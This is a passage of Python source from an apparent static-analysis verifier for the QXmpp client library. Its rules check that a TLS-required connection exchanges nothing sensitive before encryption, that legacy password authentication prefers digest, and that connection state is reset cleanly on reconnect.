                        if o is not None and f.nodes[f.skip(o)].get('f') == field:
                            sites.append((f, i))
            if not sites:
                sites = None
        else:
            sig = c['signal']
            if sig.get('signal') or sig.get('usr') in byid:
                sites = emit_sites(prog, sig['usr'], sig['qname'], fns)
                if not sites and not any(sig['qname'].startswith(p) for p in (OC + '::', 'QXmpp::Private::XmppSocket::')):
                    sites = None
                elif not sites:
                    sites = None
            else:
                sites = None      # signal of a Qt class: driven by the network / event loop
        for t in targets:
            if sites is None:
                roots[t.id] = 'slot of %s (connected at %s)' % (c['signal']['qname'], c['fn'].loc(c['nid']))
            else:
                for (sf, si) in sites:
                    edges[sf.id].append((t.id, (sf, si, 'signal %s' % c['signal']['qname'])))
    return fns, byid, edges, roots, n_dispatch


def starter_sites(prog, fns):
    """(fn, site nid, why): places that install an authentication/bind/sm listener or open the session"""
    out = []
    for f in fns:
        top = f
        while top.is_lambda and top.parent_id in prog.fns:
            top = prog.fns[top.parent_id]
        if top.record != OC:
            continue
        for i, n in f.calls():
            cn = f.cname(n)
            if cn == 'QXmppOutgoingClientPrivate::setListener' and 'StarttlsManager' not in f.sym(n).get('targs', ''):
                out.append((f, i, 'installs listener %s' % f.sym(n).get('targs', '').split(',')[0].strip('<> ')))
            elif cn == OC + '::openSession':
                out.append((f, i, 'calls openSession'))
        for i, n in f.all_nodes('assign'):
            l = f.nodes[f.skip(n['l'])]
            if l['k'] == 'mem' and l['f'] == 'QXmppOutgoingClientPrivate::listener':
                r = f.nodes[f.skip(n['r'])]
                if r['k'] != 'this':
                    out.append((f, i, 'assigns listener = %s' % f.fmt(n['r'])[:50]))
    return out


def r2(prog, run):
    rid = run.rule('C04.R2', 'every negotiation starter site (installs an auth/bind/sm listener or opens the session) is reachable from '
                             'socket-driven slots only through code that cannot run while TLS is required and the socket is unencrypted (the !handleStarttls() edge)', floor=12)
    fns, byid, edges, roots, n_dispatch = build_edges(prog, run)
    if not roots:
        raise AnalysisBroken('C04.R2: no socket-driven roots found')
    # propagate "can run without having passed the gate"
    gated_edges = defaultdict(list)
    for src, lst in edges.items():
        for dst, info in lst:
            f, site, kind = info
            if locally_gated(f, site):
                continue
            gated_edges[src].append((dst, info))
    tree = reach(gated_edges, list(roots.keys()))
    ungated = set(tree.keys())
    run.extra['roots'] = sorted('%s: %s' % (byid[r].display(), why) for r, why in roots.items())
    run.extra['listener_dispatch_edges_skipped'] = n_dispatch
    run.extra['functions_reachable_before_gate'] = len(ungated)
    for f, site, why in sorted(starter_sites(prog, fns), key=lambda t: (t[0].file, t[0].nodes[t[1]].get('ln', 0))):
        run.instance(rid)
        top = f
        while top.is_lambda and top.parent_id in prog.fns:
            top = prog.fns[top.parent_id]
        if locally_gated(f, site):
            run.ok(rid, f.loc(site), '%s: %s; unreachable while TLS is pending (behind the gate)' % (top.name, why))
        elif f.id not in ungated:
            run.ok(rid, f.loc(site), '%s: %s; enclosing function only reachable through the gate' % (top.name, why))
        else:
            p = path_to(tree, f.id)
            desc = []
            root = p[0][0] if p else f.id
            desc.append('root: %s — %s' % (byid[root].display(), roots.get(root, '')))
            for pred, info, cur in p:
                pf, s2, kind = info
                desc.append('%s  %s -> %s (%s, not behind !handleStarttls)' % (pf.loc(s2), byid[pred].display(), byid[cur].display(), kind))
            chain = '->'.join([byid[root].name] + [byid[c].name for _, _, c in p if not byid[c].is_lambda])
            run.violation(rid, '%s#%s#via:%s' % (top.qname, why.split(' ')[0] + ':' + why.split(' ')[-1], chain), f.loc(site),
                          '%s (%s) can run before the TLS gate' % (top.display(), why), desc)
    return ungated, tree, (byid, roots)


# --------------------------------------------------------------------------- R3
def r3(prog, run):
    rid = run.rule('C04.R3', 'every function that writes a payload other than stream framing / <starttls/> / SM counters to the '
                             'socket is unreachable before the TLS gate (inbound stanza dispatch is R3b)', floor=12)
    fns, byid, edges, roots, _ = build_edges(prog, run)
    he = prog.fn(OC + '::handleElement')
    cut = {OC + '::elementReceived', OC + '::handleStanza'}      # decided separately by R3b
    gated_edges = defaultdict(list)
    for src, lst in edges.items():
        for dst, info in lst:
            f, site, kind = info
            if locally_gated(f, site):
                continue
            if f.id == he.id and f.cname(f.nodes[site]) in cut:
                continue
            gated_edges[src].append((dst, info))
    tree = reach(gated_edges, list(roots.keys()))
    ungated = set(tree.keys())
    for f in fns:
        for i, n in f.calls():
            cn = f.cname(n)
            if not (cn.endswith('XmppSocket::sendData') or cn.endswith('SendDataInterface::sendData')):
                continue
            if f.qname.endswith('XmppSocket::sendData'):
                continue
            run.instance(rid)
            pc = payload_class(f, n['args'][0])
            site = f.loc(i)
            if pc in ALLOWED_PLAIN:
                run.ok(rid, site, '%s sends %s: %s' % (f.display(), pc, ALLOWED_PLAIN[pc]), nontrivial=False)
                continue
            top = f
            while top.is_lambda and top.parent_id in prog.fns:
                top = prog.fns[top.parent_id]
            if f.id in ungated and not locally_gated(f, i):
                p = path_to(tree, f.id)
                desc = ['%s  %s -> %s (%s)' % (info[0].loc(info[1]), byid[pred].display(), byid[cur].display(), info[2])
                        for pred, info, cur in p]
                run.violation(rid, '%s#send:%s' % (top.qname, pc), site,
                              '%s writes %s to the socket and is reachable before the TLS gate' % (f.display(), pc), desc)
            else:
                run.ok(rid, site, '%s sends %s; not reachable without passing the gate' % (f.display(), pc))

    # R3b: inbound dispatch while TLS is required and the link is unencrypted
    rid2 = run.rule('C04.R3b', 'in handleElement, handing a received element to extensions (elementReceived) or to the stanza '
                               'fallback (handleStanza, which replies) is unreachable while TLS is required and the socket is unencrypted',
                    floor=4)
    fn = prog.fn(OC + '::handleElement')
    sinks = {OC + '::elementReceived': 'extensions (may reply)', OC + '::handleStanza': 'fallback error reply / stanza signals'}
    found = {fn.cname(n) for _, n in fn.calls()}
    if not set(sinks) <= found:
        raise AnalysisBroken('C04.R3b: handleElement no longer calls %s' % sorted(set(sinks) - found))
    # abstract hostile inputs: (a) a stanza in its ordinary namespace; (b) a stanza smuggled into the stream namespace (<stream:iq/>): only
    # <stream:features/> and <stream:error/> may be looked at before TLS
    def mk(in_stream_ns):
        def custom(f, nid, st):
            bo = f.binop(nid)
            if bo and bo[0] in ('==', '!='):
                sides = [f.nodes[f.resolve(x)] for x in bo[1:]]
                ns_call = any(x['k'] == 'call' and f.cname(x) == 'QDomNode::namespaceURI' for x in sides)
                ns_stream = any(x['k'] == 'var' and x.get('name') == 'ns_stream' for x in sides)
                if ns_call and ns_stream:
                    return ((bo[0] == '==') == in_stream_ns,)
                tag_call = any(x['k'] == 'call' and f.cname(x) == 'QDomElement::tagName' for x in sides)
                lits = [x.get('v') for x in sides if x['k'] == 'str']
                if tag_call and lits and lits[0] in ('error', 'features'):
                    return (bo[0] == '!=',)          # the hostile element is an <iq/>, neither error nor features
            return None
        return custom
    for in_stream_ns, label in ((False, 'a stanza'), (True, 'a stanza sent in the stream namespace (<stream:iq/>)')):
        ev = cfgx.Evaluator(fn, {**ORACLES,
                                 'QXmppConfiguration::streamSecurityMode': ('enum', 'QXmppConfiguration::TLSRequired'),
                                 'QXmppStreamFeatures::isStreamFeatures': False}, custom=mk(in_stream_ns))

        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'call' and f.cname(n) in sinks and f.cname(n) not in st:
                return tuple(sorted(st + (f.cname(n),)))
            return None
        exits, info = cfgx.explore(fn, (), transfer, lambda f, c, st, ev=ev: ev.ev(c, st))
        run.paths += len(exits)
        reached = {}
        for st, path in exits.items():
            for s in st:
                reached.setdefault(s, path)
        for s, why in sinks.items():
            run.instance(rid2)
            if s in reached:
                run.violation(rid2, 'QXmppOutgoingClient::handleElement#%s%s' % (s.split('::')[-1], '#stream-namespace' if in_stream_ns else ''), fn.loc(),
                              'with TLS required and an unencrypted socket %s still reaches %s: %s; it is processed and answered in clear before <starttls/>'
                              % (label, s.split('::')[-1], why), cfgx.describe_path(fn, reached[s]))
            else:
                run.ok(rid2, fn.loc(), '%s unreachable for %s under TLSRequired && !encrypted' % (s.split('::')[-1], label))

# --------------------------------------------------------------------------- R4
def r4(prog, run):
    rid = run.rule('C04.R4', 'legacy authentication sends the password only after the option query and prefers digest when the '
                             'server offers it and the configuration asks for it', floor=8)
    start = prog.fn(OC + '::startNonSaslAuth')
    lams = prog.lambdas_in(start, recursive=False)
    cont = None
    for l in lams:
        if any(True for _ in l.calls('QXmpp::Private::NonSaslAuthManager::authenticate')):
            cont = l
    if cont is None:
        raise AnalysisBroken('C04.R4: continuation calling NonSaslAuthManager::authenticate not found in startNonSaslAuth')
    # the lambda must be the continuation of queryOptions(...)
    lam_nid = None
    for i, n in start.all_nodes('lambda'):
        if cont.id in n.get('fns', []):
            lam_nid = i
    call_nid, callee = lambda_role(start, lam_nid)
    chain = start.fmt(call_nid) if call_nid is not None else ''
    run.instance(rid)
    if callee and callee.endswith('::then') and 'NonSaslAuthManager::queryOptions' in chain:
        run.ok(rid, start.loc(lam_nid), 'authenticate() only inside the continuation of queryOptions()')
    else:
        run.violation(rid, 'startNonSaslAuth#authenticate-not-in-queryOptions-continuation', start.loc(),
                      'the credential-bearing authenticate() is not confined to the continuation of queryOptions()')
    # who else calls authenticate?
    others = [(f, i) for f, i in prog.callers_by_qname('QXmpp::Private::NonSaslAuthManager::authenticate') if f.id != cont.id]
    run.instance(rid)
    if others:
        for f, i in others:
            run.violation(rid, 'NonSaslAuthManager::authenticate#caller:' + f.outer_name(), f.loc(i),
                          'additional caller of the password-bearing legacy authenticate()')
    else:
        run.ok(rid, cont.loc(), 'single caller of NonSaslAuthManager::authenticate')

    # abstract evaluation of plainText over offers x configuration
    auth_calls = [i for i, _ in cont.calls('QXmpp::Private::NonSaslAuthManager::authenticate')]
    pt_decl = None
    for i in auth_calls:
        # the flag may be passed as it is or unwrapped from an optional (*plainText, plainText.value())
        for j in cont.walk(cont.nodes[i]['args'][0]):
            a0 = cont.nodes[j]
            if a0['k'] == 'var' and a0.get('vk') == 'local' and pt_decl is None:
                pt_decl = a0['decl']
    if pt_decl is None:
        raise AnalysisBroken('C04.R4: first argument of authenticate() is not a local flag')
    mech = prog.enum('QXmppConfiguration::NonSASLAuthMechanism')
    for plain in (True, False):
        for digest in (True, False):
            for e in mech['enumerators']:
                run.instance(rid)
                cfg = ('enum', 'QXmppConfiguration::' + e['name'])
                binds = {'field:QXmpp::Private::NonSaslAuthOptions::plain': plain,
                         'field:QXmpp::Private::NonSaslAuthOptions::digest': digest,
                         'QXmppConfiguration::nonSASLAuthMechanism': cfg}

                def custom(f, nid, st, binds=binds):
                    n = f.nodes[nid]
                    if n['k'] == 'var' and n.get('decl') == pt_decl and st is not None:
                        d = dict(st)
                        if 'pt' in d:
                            return (d['pt'],)
                    if n['k'] == 'call' and f.cname(n) == 'std::get_if':
                        return (True,)     # the options alternative (the error alternative sends nothing)
                    if n['k'] == 'var' and n.get('name') == 'options':
                        return (True,)
                    return None
                ev = cfgx.Evaluator(cont, binds, custom=custom)

                def transfer(f, nid, st, ev=ev):
                    n = f.nodes[nid]
                    d = dict(st)
                    if n['k'] == 'decl':
                        for dd in n['decls']:
                            if dd['var'] == pt_decl and 'init' in dd:
                                d['pt'] = ev.ev(dd['init'], st)
                                return tuple(sorted(d.items(), key=lambda kv: kv[0]))
                    if n['k'] == 'assign':
                        l = f.nodes[f.skip(n['l'])]
                        if l['k'] == 'var' and l['decl'] == pt_decl:
                            d['pt'] = ev.ev(n['r'], st)
                            return tuple(sorted(d.items(), key=lambda kv: kv[0]))
                    if n['k'] == 'call' and f.cname(n) == 'QXmpp::Private::NonSaslAuthManager::authenticate':
                        v = ev.ev(n['args'][0], st)
                        d['auth'] = v if isinstance(v, bool) else d.get('pt', '?')
                        return tuple(sorted(d.items(), key=lambda kv: kv[0]))
                    return None
                exits, info = cfgx.explore(cont, (), transfer, lambda f, c, st: ev.ev(c, st))
                run.paths += len(exits)
                site = '%s plain=%s digest=%s config=%s' % (cont.loc(), plain, digest, e['name'])
                for st, path in exits.items():
                    d = dict(st)
                    key = 'startNonSaslAuth#plain=%s,digest=%s,config=%s' % (plain, digest, e['name'])
                    if not plain and not digest:
                        if 'auth' in d:
                            run.violation(rid, key, site, 'authenticates although the server offered no usable mechanism',
                                          cfgx.describe_path(cont, path))
                        else:
                            run.ok(rid, site, 'no mechanism offered: nothing sent')
                        continue
                    if 'auth' not in d:
                        run.ok(rid, site, 'no authenticate on this path', nontrivial=False)
                        continue
                    if digest and e['name'] == 'NonSASLDigest' and d['auth'] is not False:
                        run.violation(rid, key, site, 'plain-text password chosen although digest is offered and configured',
                                      cfgx.describe_path(cont, path))
                    elif not plain and d['auth'] is not False:
                        run.violation(rid, key, site, 'plain-text password sent although the server only offered digest',
                                      cfgx.describe_path(cont, path))
                    else:
                        run.ok(rid, site, 'plainText=%s' % d['auth'])
