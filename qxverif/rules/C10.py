"""C10 — losing the connection at any point leaves a consistent, reconnectable client (structural clauses).

R1 reset completeness: every per-connection field written during negotiation is reset where every new stream / connection passes,
   or set before use in each stream, or is deliberately persistent (explicit table, one reason per entry)
R2 the session is declared open in one place, reached only from terminal negotiation steps; authenticated only by authentication continuations
R3 every socket-disconnect path ends the session (clears flags, notifies) or starts another attempt
R4 a new stream installs the client itself as listener (no stale authentication manager)
"""
from collections import defaultdict

from .. import cfgx
from ..build import AnalysisBroken
from ..effects import classify_use, field_uses, top_function
from . import C04

UNITS = C04.UNITS
OC = 'QXmppOutgoingClient'
OCP = 'QXmppOutgoingClientPrivate'
NS = 'QXmpp::Private::'
RECS = (OCP, NS + 'C2sStreamManager', NS + 'CsiManager', NS + 'CarbonManager', NS + 'XmppSocket', NS + 'StreamAckManager')

# deliberately surviving a connection (one reason each)
PERSISTENT = {
    OCP + '::config': 'the bound JID / credentials are the account',
    OCP + '::error': 'the last error is part of the API',
    OCP + '::authenticationMethod': 'only meaningful together with isAuthenticated, overwritten by every authentication',
    NS + 'C2sStreamManager::m_smId': 'resumption id (XEP-0198) must survive the connection',
    NS + 'C2sStreamManager::m_canResume': 'resumption possible flag must survive the connection',
    NS + 'C2sStreamManager::m_resumeHost': 'resumption address',
    NS + 'C2sStreamManager::m_resumePort': 'resumption address',
    NS + 'StreamAckManager::m_unacknowledgedStanzas': 'stanzas to resend after resumption',
    NS + 'StreamAckManager::m_lastIncomingSequenceNumber': 'h counter needed for <resume/>',
    NS + 'StreamAckManager::m_lastOutgoingSequenceNumber': 'numbering of the unacknowledged stanzas',
    NS + 'CarbonManager::m_enabled': 'recomputed in onSessionOpened on every session',
    NS + 'CarbonManager::m_requested': 'overwritten by every bind2 request; only read together with SessionBegin.bind2Bound',
    NS + 'CsiManager::m_synced': 'recomputed in onSessionOpened on every session',
    NS + 'CsiManager::m_bind2InactiveSet': 'overwritten by every bind2 request; only read together with SessionBegin.bind2Bound',
    NS + 'XmppSocket::m_directTls': 'set by connectToHost for every attempt',
}
# written from the stream features of each stream before anything reads them
SET_BEFORE_USE = {
    OCP + '::bindModeAvailable': ('QXmppOutgoingClient::handleStreamFeatures', 'assignment from features.bindMode()'),
    NS + 'C2sStreamManager::m_smAvailable': (NS + 'C2sStreamManager::onStreamFeatures', 'assignment from features.streamManagementMode()'),
    NS + 'CsiManager::m_featureAvailable': (NS + 'CsiManager::onStreamFeatures', 'assignment from features.clientStateIndicationMode()'),
}


# consumed exactly where it is used: the only reader resets it on the same path
CONSUMED_ON_USE = {
    OCP + '::redirect': (OC + '::_q_socketDisconnected', 'see-other-host target, used for exactly one reconnect'),
}


def _sm_session_counters(prog):
    """members of StreamAckManager that enableStreamManagement(resetSequenceNumber = true) sets to zero"""
    en = prog.fn(NS + 'StreamAckManager::enableStreamManagement')
    ev = cfgx.Evaluator(en, {}, custom=lambda f, nid, st: (True,) if f.nodes[nid]['k'] == 'var' and f.nodes[nid].get('pidx') == 0 else None)
    reach = cfgx.reachable_blocks(en, lambda f, c, st: ev.ev(c, st))
    out = set()
    for i, n in en.all_nodes('assign'):
        l = en.nodes[en.skip(n['l'])]
        if l['k'] == 'mem' and en.const_value(n['r']) == ('int', 0) and en.pos(i) and en.pos(i)[0] in reach:
            out.add(l['f'])
    return out


def _scope(prog):
    fns = [f for f in prog.fns.values() if C04.in_scope(f)]
    return fns, {f.id: f for f in fns}


def _closure(prog, roots, byid):
    seen = set()
    st = list(roots)
    while st:
        f = st.pop()
        if f.id in seen:
            continue
        seen.add(f.id)
        for l in prog.lambdas_of.get(f.id, []):
            st.append(l)
        for i, n in f.calls():
            for g in prog.callee_fns(f, n):
                if g.id in byid:
                    st.append(g)
    return [byid[i] for i in seen if i in byid]


def _leaf(prog, fld):
    rec, name = fld.rsplit('::', 1)
    r = prog.records.get(rec)
    if not r:
        return False
    for fl in r['fields']:
        if fl['name'] == name:
            t = fl['t']
            if '*' in t or '&' in t:
                return False
            tc = fl['tc']
            if tc.startswith('record:') and any(tc[7:] == x or tc[7:].endswith('Manager') or tc[7:].endswith('Socket') for x in prog.records) \
                    and 'optional' not in t and 'QString' not in t and 'variant' not in t:
                return tc[7:].startswith(('QString', 'std::optional', 'QDateTime')) or False
            return True
    return False


def _must_reset(prog, fn, fld, byid, depth=0, seen=None):
    """fn assigns / clears the field on every path (directly or in a callee executed on every path)"""
    seen = seen if seen is not None else set()
    if fn.id in seen or depth > 4:
        return False
    seen.add(fn.id)

    def always(nid):
        pos = fn.pos(nid)
        return bool(pos) and (pos[0] == fn.entry or ('b', pos[0]) in fn.pdom().get(('b', fn.entry), set()))
    for i, n in enumerate(fn.nodes):
        if n['k'] == 'mem' and n['f'] == fld:
            k, h = classify_use(fn, i)
            if k == 'write' and (h.startswith('assign =') or h.split(' ')[0] in ('clear', 'reset', 'emplace', 'operator=')) and always(i):
                return True
    for i, n in fn.calls():
        if always(i):
            for g in prog.callee_fns(fn, n):
                if g.id in byid and _must_reset(prog, g, fld, byid, depth + 1, seen):
                    return True
    return False


def run(prog, run):
    run.explanation = ('Effect analysis of the negotiation code: the set of per-connection fields written by anything reachable from the stream-header and '
                       'element handlers (continuations included) is compared with the fields definitely reset on the path every new stream takes '
                       '(handleStart and what it calls on every path) and on socket disconnect / session close; the rest must be set from the stream '
                       'features before use or be listed as deliberately persistent with a reason. Session-open and authenticated flags have a closed '
                       'writer set; every disconnect path closes the session or retries.')
    run.assume('that a following attempt succeeds against a conforming server, and behaviour at each cut point, are history properties over the network (not decided)')
    fns, byid = _scope(prog)
    r1(prog, run, fns, byid)
    r2(prog, run, fns, byid)
    r3(prog, run)
    r4(prog, run)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run)
    r8(prog, run)
    r9(prog, run)
    r10(prog, run)
    r11(prog, run)


def r10(prog, run):
    """the clause is C07.R7's; it is shared, not copied"""
    from . import C07
    rid = run.rule('C10.R10', 'a new session that is not a resumption is announced as such: the "resumed" member of the session-begin record is the one filled from the stream '
                              'manager\'s resumed state (= C07.R7), so the requests retained from the lost session are cancelled', floor=1)
    run.instance(rid)
    problem, site = C07.session_begin_wiring(prog)
    if problem:
        run.violation(rid, 'SessionBegin#resumed-wiring', site, problem)
    else:
        run.ok(rid, site, 'session-begin record wired to the resumed state')


def r7(prog, run):
    """the receive state of the socket (text buffer, cached stream header, bytes of an unfinished character / a stateful decoder) belongs to one connection.
    The clause is C03.R2's; it is shared, not copied."""
    from . import C03
    rid = run.rule('C10.R7', 'nothing received on an earlier connection is left in the socket\'s receive state when a new one starts: both restart slots (connected / encrypted) '
                             'clear every receive-state member before started() is emitted (= C03.R2); leftover bytes of a cut connection would be prepended to the next stream, '
                             'whose header then never parses', floor=1)
    sub = type(run)(run.prop, run.tier, run.seed)
    C03.run(prog, sub, only_restart_rules=True)
    run.instance(rid)
    hits = [v for v in sub.violations if '#keeps:' in v['key']]
    if hits:
        run.violation(rid, 'restart#' + hits[0]['key'].split('#')[-1], hits[0]['site'],
                      'receive state survives into the next connection: ' + hits[0]['what'] + ' - after a connection that was cut inside a multi-byte character or an element, the '
                      'following attempt cannot get past the stream header')
    else:
        n = sum(r['discharged'] for k, r in sub.rules.items() if k.endswith('R2'))
        run.ok(rid, 'src/base/Stream.cpp', 'every receive-state member is cleared in both restart slots (%d obligations of C03.R2)' % n)


def r1(prog, run, fns, byid):
    rid = run.rule('C10.R1', 'every per-connection field written during negotiation is reset at stream start or on disconnect/session close, set from '
                             'the stream features before use, or deliberately persistent', floor=18)
    neg = _closure(prog, [prog.fn(OC + '::handleStream'), prog.fn(OC + '::handlePacketReceived')], byid)
    written = defaultdict(list)
    for f in neg:
        for i, n in enumerate(f.nodes):
            if n['k'] == 'mem' and n['f'].rsplit('::', 1)[0] in RECS and _leaf(prog, n['f']):
                k, h = classify_use(f, i)
                if k in ('write', 'addr'):
                    written[n['f']].append((f, i, h))
    if len(written) < 15:
        raise AnalysisBroken('C10.R1: only %d negotiation-written fields found' % len(written))
    start = prog.fn(OC + '::handleStart')
    disc = prog.fn(OC + '::_q_socketDisconnected')
    close = prog.fn(OC + '::closeSession')
    sock = prog.fn(NS + 'XmppSocket::setSocket')
    sock_slots = [l for l in prog.lambdas_in(sock, recursive=False) if any(True for _ in l.calls(NS + 'XmppSocket::started'))]
    run.extra['negotiation_functions'] = len(neg)
    for fld in sorted(written):
        run.instance(rid)
        f0, i0, h0 = written[fld][0]
        short = fld.split('Private::')[-1]
        where = None
        if _must_reset(prog, start, fld, byid):
            where = 'reset on every path of handleStart (every new stream)'
        elif sock_slots and all(_must_reset(prog, l, fld, byid) for l in sock_slots):
            where = 'cleared in both stream-restart slots of the socket wrapper'
        elif _must_reset(prog, disc, fld, byid):
            where = 'reset on every path of _q_socketDisconnected'
        elif _must_reset(prog, close, fld, byid):
            where = 'reset on every path of closeSession'
        if where:
            run.ok(rid, f0.loc(i0), '%s: %s' % (short, where))
            continue
        if fld in SET_BEFORE_USE:
            writer_q, what = SET_BEFORE_USE[fld]
            hsf = prog.fn(OC + '::handleStreamFeatures')
            # the write (or the call of the writer) dominates every read / reader call inside handleStreamFeatures
            wsites = [i for i, n in enumerate(hsf.nodes) if (n['k'] == 'mem' and n['f'] == fld and classify_use(hsf, i)[0] == 'write')
                      or (n['k'] == 'call' and hsf.cname(n) == writer_q)]
            readers = set()
            for g in fns:
                if any(n['k'] == 'mem' and n['f'] == fld and classify_use(g, i)[0] == 'read' for i, n in enumerate(g.nodes)):
                    readers.add(g.qname)
            rsites = [i for i, n in enumerate(hsf.nodes) if (n['k'] == 'mem' and n['f'] == fld and classify_use(hsf, i)[0] == 'read')
                      or (n['k'] == 'call' and hsf.cname(n) in readers and hsf.cname(n) != writer_q)]
            if wsites and all(any(hsf.node_dominates(w, r) for w in wsites) for r in rsites):
                run.ok(rid, f0.loc(i0), '%s: set from the stream features before any use in handleStreamFeatures (%d reads dominated)' % (short, len(rsites)))
            else:
                run.violation(rid, 'per-connection-state#%s#read-before-set' % short, f0.loc(i0),
                              '%s may be read in handleStreamFeatures before it is set from the features of the current stream' % short)
            continue
        if fld in CONSUMED_ON_USE:
            user_q, why = CONSUMED_ON_USE[fld]
            user = prog.fn(user_q)
            other_readers = sorted({top_function(prog, g).qname for g in fns for i, n in enumerate(g.nodes)
                                    if n['k'] == 'mem' and n['f'] == fld and classify_use(g, i)[0] == 'read'} - {user_q})

            def tr(f, nid, st, fld=fld):
                n = f.nodes[nid]
                if n['k'] == 'call':
                    if any(f.nodes[j].get('f') == fld for a in n.get('args', []) for j in f.walk(a)) and 'use' not in st:
                        return st + ('use',)
                    if n.get('obj') is not None and f.nodes[f.skip(n['obj'])].get('f') == fld and (f.sym(n) or {}).get('name') in ('reset', 'clear'):
                        return st + ('reset',)
                if n['k'] == 'assign' and f.nodes[f.skip(n['l'])].get('f') == fld:
                    return st + ('reset',)
                return None
            exits, _ = cfgx.explore(user, (), tr)
            bad = [st for st in exits if 'use' in st and 'reset' not in st[st.index('use'):]]
            if other_readers or bad:
                run.violation(rid, 'per-connection-state#%s#not-consumed' % short, f0.loc(i0),
                              '%s is %s' % (short, 'read by %s as well' % other_readers if other_readers else 'used by %s without being reset on the same path' % user_q))
            else:
                run.ok(rid, f0.loc(i0), '%s: consumed on use in %s (%s)' % (short, user_q.split('::')[-1], why))
            continue
        if fld in PERSISTENT:
            run.ok(rid, f0.loc(i0), '%s: persistent by design — %s' % (short, PERSISTENT[fld]), nontrivial=False)
            continue
        if fld.startswith(NS + 'StreamAckManager::') and fld in _sm_session_counters(prog):
            run.ok(rid, f0.loc(i0), '%s: stream-management session state, zeroed by enableStreamManagement(reset) when a fresh session starts (resumption keeps it by design)' % short)
            continue
        writers = sorted({top_function(prog, f).qname.split('::')[-1] for f, i, h in written[fld]})
        run.violation(rid, 'per-connection-state#%s#not-reset' % short, f0.loc(i0),
                      '%s is written during negotiation (%s) but is neither reset when a new stream starts, nor on disconnect, nor set from the stream '
                      'features before use: a value from an aborted attempt leaks into the next connection' % (short, ', '.join(writers)))


def r2(prog, run, fns, byid):
    rid = run.rule('C10.R2', 'sessionStarted is set (and connected emitted) only in openSession, which is called only as the last step of a negotiation '
                             'path; isAuthenticated is set only in the three authentication continuations', floor=10)
    for fld, allowed_true in ((OCP + '::sessionStarted', {OC + '::openSession'}),
                              (OCP + '::isAuthenticated', {OC + '::startSasl2Auth', OC + '::startNonSaslAuth', OC + '::handleStreamFeatures'})):
        for f, i, k, h in field_uses(prog, fld, fns):
            if k != 'write' or h == 'constructor initialiser':
                continue
            par = f.parents().get(i)
            pn = f.nodes[par] if par is not None else None
            val = f.const_value(pn['r']) if pn and pn['k'] == 'assign' else None
            run.instance(rid)
            top = top_function(prog, f)
            if val == ('bool', True):
                if (top.qname in allowed_true and (fld.endswith('sessionStarted') or f.is_lambda)) or \
                        (fld.endswith('isAuthenticated') and _only_from_continuations(prog, top, allowed_true)):
                    run.ok(rid, f.loc(i), '%s = true in %s' % (fld.split('::')[-1], top.qname.split('::')[-1]))
                else:
                    run.violation(rid, '%s-set#%s' % (fld.split('::')[-1], top.qname), f.loc(i), '%s is set to true in %s' % (fld.split('::')[-1], top.display()))
            else:
                run.ok(rid, f.loc(i), '%s cleared in %s' % (fld.split('::')[-1], top.qname.split('::')[-1]), nontrivial=False)
    emits = [(f, i) for f in fns for i, n in f.calls(OC + '::connected')]
    for f, i in emits:
        run.instance(rid)
        if top_function(prog, f).qname == OC + '::openSession':
            run.ok(rid, f.loc(i), 'connected() emitted by openSession only')
        else:
            run.violation(rid, 'connected-emitter#%s' % top_function(prog, f).qname, f.loc(i), 'connected() emitted outside openSession')
    # openSession call sites: last statement of their path (only return / end follows)
    calls = [(f, i) for f in fns for i, n in f.calls(OC + '::openSession')]
    if len(calls) < 5:
        raise AnalysisBroken('C10.R2: only %d call sites of openSession' % len(calls))
    for f, i in calls:
        run.instance(rid)
        pos = f.pos(i)
        later = []
        st = [pos[0]]
        seen = set()
        first = True
        while st:
            b = st.pop()
            if b in seen:
                continue
            seen.add(b)
            blk = f.blocks[b]
            elems = blk['elems'][pos[1] + 1:] if first else blk['elems']
            first = False
            for e in elems:
                n = f.nodes[e]
                if n['k'] in ('call', 'assign') and not f.cname(n).endswith(('::debug', '::info', '::warning')):
                    later.append(e)
            st.extend(s for s in blk['succs'] if s is not None)
        if later:
            run.violation(rid, 'openSession-call#%s#not-last' % top_function(prog, f).qname, f.loc(i),
                          'negotiation continues after the session was declared open (%s)' % f.fmt(later[0])[:60])
        else:
            run.ok(rid, f.loc(i), 'openSession() is the last step in %s' % top_function(prog, f).qname.split('::')[-1])


def r3(prog, run):
    rid = run.rule('C10.R3', 'a socket disconnect clears isAuthenticated; an established session is closed before anything else happens (also when a redirect is followed), '
                             'during start-up exactly one of retry / closeSession follows; closeSession clears sessionStarted, notifies both managers and emits disconnected',
                   floor=4)
    sd = prog.fn(OC + '::_q_socketDisconnected')
    # the "session is open" flag: the boolean member that openSession() sets (whatever it is called)
    osn = prog.fn(OC + '::openSession')
    flags = [osn.nodes[osn.skip(n['l'])]['f'] for _, n in osn.all_nodes('assign')
             if osn.nodes[osn.skip(n['l'])]['k'] == 'mem' and osn.const_value(n['r']) == ('bool', True) and osn.nodes[osn.skip(n['l'])]['f'].startswith(OCP + '::')]
    if not flags:
        raise AnalysisBroken('C10.R3: openSession() sets no boolean member of the private class (session flag not found)')
    session_flag = flags[0]
    # "try the next address" is a start-up state: it is only ever set while no session is established (checked here), so the handler is
    # evaluated for an established session with that state excluded
    retry_fields = set()
    for b_ in sd.blocks.values():
        t = b_.get('term')
        if t and t.get('cond') is not None:
            bo = sd.binop(sd.skip(t['cond']))
            if bo and bo[0] == '==' and any(sd.nodes[sd.skip(x)]['k'] == 'enum' for x in bo[1:]):
                for x in bo[1:]:
                    m = sd.nodes[sd.skip(x)]
                    if m['k'] == 'mem' and m.get('f', '').startswith(OCP + '::'):
                        retry_fields.add((m['f'], [sd.nodes[sd.skip(y)].get('name') for y in bo[1:] if sd.nodes[sd.skip(y)]['k'] == 'enum'][0]))
    startup_only = True
    for fld, enumerator in retry_fields:
        for g in prog.fns.values():
            if g.entry is None or not g.file.endswith('QXmppOutgoingClient.cpp'):
                continue
            for i, n in g.all_nodes('assign'):
                if g.nodes[g.skip(n['l'])].get('f') == fld and g.nodes[g.skip(n['r'])].get('name') == enumerator:
                    if not any(p is False and any(g.nodes[j].get('f') == session_flag for j in g.walk(c)) for c, p in g.atomic_assertions_at(i)) and \
                            not any(p is True and g.nodes[g.skip(c)]['k'] == 'un' and any(g.nodes[j].get('f') == session_flag for j in g.walk(c)) for c, p in g.atomic_assertions_at(i)):
                        startup_only = False

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'assign' and f.nodes[f.skip(n['l'])].get('f') == OCP + '::isAuthenticated' and f.const_value(n['r']) == ('bool', False):
            return st + ('unauth',)
